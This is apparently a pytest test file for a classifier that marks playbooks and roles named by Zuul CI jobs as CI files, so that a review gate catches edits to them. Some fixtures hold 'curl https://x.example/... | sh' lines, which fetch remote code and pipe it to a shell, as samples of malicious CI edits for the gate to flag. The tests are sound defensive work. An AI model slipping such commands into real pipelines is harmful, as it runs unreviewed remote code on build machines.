"""The playbooks and roles a Zuul job runs are `ci` (issue 12, classes52; zuuljobs.py).

Label round 49 found ansible/ansible-zuul-jobs' playbooks and roles `iac` (the Ansible path rules): Zuul runs them as
the project's CI jobs. A job's `run`, `pre-run`, `post-run` and `cleanup-run` (string, list, `{name: ...}` items, with
or without `.yaml`) name them; the project's `roles/` is on their role path. With the commits (tree) every Zuul file
of both trees is read; from a patch, the Zuul files the patch shows.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from changecase import committed, gated
from gitdiffs import commit_patch
from gitrepo import two_commits
from incli import run_cli, tree_classify
from tables import each_case

from gatekeeper.classify import zuuljobs

JOBS = """\
- job:
    name: deploy-site
    pre-run: playbooks/deploy-site/pre.yaml
    run:
      - playbooks/deploy-site/run.yaml
      - name: playbooks/deploy-site/verify.yaml
        semaphores: [prod]
    post-run: tools/zuul/post
    cleanup-run: [ci-scripts/cleanup.yml]

- project:
    check:
      jobs:
        - deploy-site
"""
TASKS = "- name: install\n  ansible.builtin.package:\n    name: nginx\n"
PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.shell: ./setup.sh\n"
EVIL = "- hosts: all\n  tasks:\n    - ansible.builtin.shell: curl https://x.example/i.sh | sh\n"
RUN = {  # files the job runs, or its folder holds, or its role path gives: path -> (how named)
    "playbooks/deploy-site/pre.yaml": PLAY,
    "playbooks/deploy-site/run.yaml": PLAY,
    "playbooks/deploy-site/verify.yaml": PLAY,
    "playbooks/deploy-site/files/bootstrap.yaml": "interfaces: []\n",  # a file in the playbook's folder
    "playbooks/deploy-site/templates/motd.j2": "hello\n",
    "tools/zuul/post.yaml": PLAY,  # named without its extension
    "ci-scripts/cleanup.yml": PLAY,
    "roles/configure-mirrors/tasks/main.yaml": TASKS,  # the project's roles/ is on the role path
    "roles/configure-mirrors/defaults/main.yaml": "mirror: x\n",
}
LEFT = {  # what no job names keeps its class
    "playbooks/other/site.yml": "iac", "docs/playbook-guide.md": "src", "tools/lint.py": "src",
}


@pytest.fixture(scope="module")
def commits(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
    base = {"zuul.d/jobs.yaml": JOBS, **RUN, **dict.fromkeys(LEFT, "x: 1\n")}
    head = {path: text + "# edited\n" for path, text in base.items() if path != "zuul.d/jobs.yaml"}
    repo, first, second = two_commits(tmp_path_factory.mktemp("zuul") / "repo", base, head)
    return repo.root, first, second


@pytest.fixture(scope="module")
def classified(commits: tuple[Path, str, str]) -> dict[str, dict[str, str]]:
    return tree_classify(*commits)


@each_case("path", sorted(RUN))
def test_what_a_zuul_job_runs_is_ci_with_the_commits(classified: dict[str, dict[str, str]], path: str) -> None:
    assert (classified[path]["bucket"], classified[path]["rule"]) == ("ci", zuuljobs.RULE), classified[path]
    assert classified[path]["evidence"].startswith("zuul.d/jobs.yaml: "), classified[path]


@each_case("path", sorted(LEFT))
def test_what_no_job_names_keeps_its_class(classified: dict[str, dict[str, str]], path: str) -> None:
    assert classified[path]["bucket"] == LEFT[path], classified[path]


@each_case("config", [".zuul.yaml", "zuul.yaml", ".zuul.d/jobs.yaml", "zuul.d/sub/jobs.yaml"])
def test_every_place_zuul_reads_jobs_from(tmp_path: Path, config: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {config: JOBS, "ci-scripts/cleanup.yml": PLAY},
                                   {"ci-scripts/cleanup.yml": EVIL})
    entry = tree_classify(repo.root, base, head)["ci-scripts/cleanup.yml"]
    assert (entry["bucket"], entry["rule"]) == ("ci", zuuljobs.RULE), entry


def test_a_job_added_by_the_change_itself_counts(tmp_path: Path) -> None:
    # HEAD's Zuul file names a script the change also edits: both trees are read.
    jobs = "- job:\n    name: d\n    run: deploy/site\n"
    repo, base, head = two_commits(tmp_path / "repo", {"deploy/site.yml": PLAY},
                                   {".zuul.yaml": jobs, "deploy/site.yml": EVIL})
    assert tree_classify(repo.root, base, head)["deploy/site.yml"]["bucket"] == "ci"


def test_a_job_the_change_deletes_still_counts(tmp_path: Path) -> None:
    # Deleting the job in the same change does not hide the playbook it ran (BASE's Zuul file is read).
    repo, base, _ = two_commits(tmp_path / "repo", {".zuul.yaml": "- job:\n    name: d\n    run: deploy/site.yml\n",
                                                    "deploy/site.yml": PLAY}, {"deploy/site.yml": EVIL})
    repo.git("rm", "-q", ".zuul.yaml")
    head = repo.commit("drop the job")
    entry = tree_classify(repo.root, base, head)["deploy/site.yml"]
    assert entry["bucket"] == "ci", entry


@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
def test_the_gate_reviews_an_edit_of_a_file_a_job_runs(tmp_path: Path, tree: bool) -> None:
    # ci-scripts/ is no CI folder by name and its script no Ansible file by content or place: the job makes both CI
    # (the playbook copies and runs its folder's script). On 53a70ac the script was src and its edit allowed in both
    # mode (the change edits the script alone). From a patch alone the Zuul file must be shown.
    jobs = "- job:\n    name: d\n    run: ci-scripts/deploy/run.yml\n"
    play = "- hosts: all\n  tasks:\n    - ansible.builtin.script: setup.sh\n"
    files = {"zuul.yaml": jobs, "ci-scripts/deploy/run.yml": play, "ci-scripts/deploy/setup.sh": "make install\n"}
    edit = {"ci-scripts/deploy/setup.sh": "curl https://x.example | sh\n"}
    case = committed(tmp_path, files, edit) if tree else committed(tmp_path, {}, {**files, **edit})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, decision.get("reasons")
    ci = {p for reason in decision["reasons"] if reason["rule"] == "core.ci" for p in reason.get("paths", ())}
    assert "ci-scripts/deploy/setup.sh" in ci, decision["reasons"]


def test_from_a_patch_a_hunk_that_shows_the_run_line(tmp_path: Path) -> None:
    # A modified Zuul file shows only its hunks: the `run:` line it changes names the playbook.
    jobs = "".join(f"- job:\n    name: j{i}\n    parent: base\n" for i in range(20)) + "- job:\n    name: x\n"
    repo, base, head = two_commits(tmp_path / "repo", {"zuul.d/jobs.yaml": jobs + "    run: a.yml\n",
                                                       "tools/deploy.yml": PLAY},
                                   {"zuul.d/jobs.yaml": jobs + "    run: tools/deploy.yml\n", "tools/deploy.yml": EVIL})
    patch = tmp_path / "change.patch"
    patch.write_bytes(commit_patch(repo, base, head))
    done = run_cli(["classify", patch, "--format", "json"], text=True)
    assert done.returncode == 0, done.stderr
    entry = {e["path"]: e for e in json.loads(done.stdout)["files"]}["tools/deploy.yml"]
    assert (entry["bucket"], entry["rule"]) == ("ci", zuuljobs.RULE), entry


def test_the_reader_takes_every_form_and_no_url() -> None:
    text = ("- job:\n    name: a\n    run: playbooks/a\n    pre-run: [p/b.yaml, {name: p/c.yml}]\n"
            "    post-run:\n      - name: /p/d.yaml\n    cleanup-run: https://x.example/e.yaml\n"
            "- job:\n    name: escape\n    run: ../outside.yaml\n")
    patterns = {pattern for pattern, _ in zuuljobs.named(".zuul.yaml", text)}
    assert {"playbooks/a", "playbooks/a.yaml", "playbooks/a.yml", "playbooks/*", "p/b.yaml", "p/c.yml", "p/d.yaml",
            "p/*", "roles/*"} == patterns


def test_a_broken_zuul_file_is_still_read_by_lines() -> None:
    text = "- job:\n    name: a\n    run: playbooks/a.yaml\n  bad: [\n- job:\n    pre-run:\n      - tools/b.yaml\n"
    patterns = {pattern for pattern, _ in zuuljobs.named("zuul.yaml", text)}
    assert {"playbooks/a.yaml", "tools/b.yaml"} <= patterns


def test_past_the_bound_every_yaml_file_counts(tmp_path: Path) -> None:
    files = {f"zuul.d/j{i}.yaml": f"- job:\n    name: j{i}\n" for i in range(zuuljobs.MAX_FILES + 1)}
    repo, base, head = two_commits(tmp_path / "repo", {**files, "deploy/x.yaml": "a: 1\n"}, {"deploy/x.yaml": "a: 2\n"})
    entry = tree_classify(repo.root, base, head)["deploy/x.yaml"]
    assert (entry["bucket"], entry["rule"], entry["evidence"]) == ("ci", zuuljobs.RULE, zuuljobs.PAST), entry


def test_a_repository_without_zuul_is_unchanged(tmp_path: Path) -> None:
    # Look-alike: an Ansible repository whose playbooks no Zuul job names (and a zuul.yaml below the root: not read).
    repo, base, head = two_commits(tmp_path / "repo", {"docs/zuul.yaml": JOBS, **RUN}, {p: t + "# e\n" for p, t in
                                                                                         RUN.items()})
    out = tree_classify(repo.root, base, head)
    assert all(entry["rule"] != zuuljobs.RULE for entry in out.values()), out
    assert out["playbooks/deploy-site/run.yaml"]["bucket"] == "iac"
